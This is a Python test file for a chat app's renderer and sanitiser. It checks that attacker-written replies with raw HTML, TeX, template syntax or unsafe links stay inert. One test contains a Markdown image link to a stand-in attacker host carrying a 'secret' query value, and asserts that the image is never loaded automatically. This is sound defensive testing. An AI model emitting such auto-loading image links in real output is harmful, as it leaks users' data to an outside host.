"""A reply may be written by an attacker. Whoever reads it must be safe, and see what it says."""

from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.render.markdown import to_html
from chat.render.maths import mathml
from chat.render.sanitiser import sanitised
from tests.unit.render.allowed import Page
from tests.unit.render.attacks import ADDRESSES, PLACES, RAW, TEMPLATES, TEX

ATTACKS = (*RAW, *TEX, *TEMPLATES)


def letters(text: str) -> str:
    """What is left of a text whatever Markdown made of its signs."""
    return "".join(char for char in unescape(text) if char.isalnum())


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_tag_or_handler_comes_alive_anywhere_in_a_document(attack: str, place: str) -> None:
    assert Page(to_html(place.format(attack))).complaints == []


@pytest.mark.parametrize("attack", RAW)
def test_the_reader_sees_what_was_written(attack: str) -> None:
    page = Page(to_html(attack))
    assert letters(page.text) == letters(attack)
    assert page.links == []


@pytest.mark.parametrize("form", ["[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}"])
@pytest.mark.parametrize("address", ADDRESSES)
def test_no_link_leads_anywhere_but_to_the_web_and_mail(address: str, form: str) -> None:
    page = Page(to_html(form.format(address)))
    assert page.complaints == []
    assert page.links == []


@pytest.mark.parametrize("tex", TEX)
def test_a_formula_is_a_formula_or_its_source(tex: str) -> None:
    assert Page(sanitised(mathml(tex, display=True))).complaints == []
    assert Page(to_html(f"${tex}$")).complaints == []


@pytest.mark.parametrize("template", TEMPLATES)
def test_template_signs_stay_letters(template: str) -> None:
    assert template in Page(to_html(f"```\n{template}\n```")).text


@pytest.mark.parametrize("attack", RAW)
def test_the_sanitiser_alone_would_hold(attack: str) -> None:
    """Should a template ever forget to escape, this is the net below it."""
    assert Page(sanitised(attack)).complaints == []
    assert Page(sanitised(f"<p>{attack}</p><math><mtext>{attack}</mtext></math>")).complaints == []


def test_a_picture_on_the_web_is_never_loaded_by_itself() -> None:
    page = Page(to_html("![the plan](https://evil.example/?secret=1)"))
    assert "img" not in page.tags
    assert page.text.strip() == "[picture: the plan]"
    assert page.links == ["https://evil.example/?secret=1"]


def test_a_picture_inside_a_link_leads_where_the_link_does() -> None:
    page = Page(to_html("[![alt](https://a.example/x.png)](https://b.example)"))
    assert page.links == ["https://b.example"]
    assert page.text.strip() == "[picture: alt]"


def test_an_inlined_picture_does_not_flood_the_page_with_its_bytes() -> None:
    assert Page(to_html("![dot](data:image/png;base64,iVBORw0KGgo=)")).text.strip() == (
        "[picture: dot]"
    )


@given(st.lists(st.sampled_from([*ATTACKS, *ADDRESSES, *"\n>#-*_`[]()!|$\\& <~:\"'"]), max_size=30))
def test_no_mixture_of_attacks_comes_alive(pieces: list[str]) -> None:
    assert Page(to_html("".join(pieces))).complaints == []


@given(st.text(st.characters(exclude_categories=())))
def test_any_string_at_all_can_be_shown(text: str) -> None:
    """NUL and lone surrogates included: a page that fails to draw loses the whole conversation."""
    html = to_html(text)
    assert Page(html).complaints == []
    html.encode()
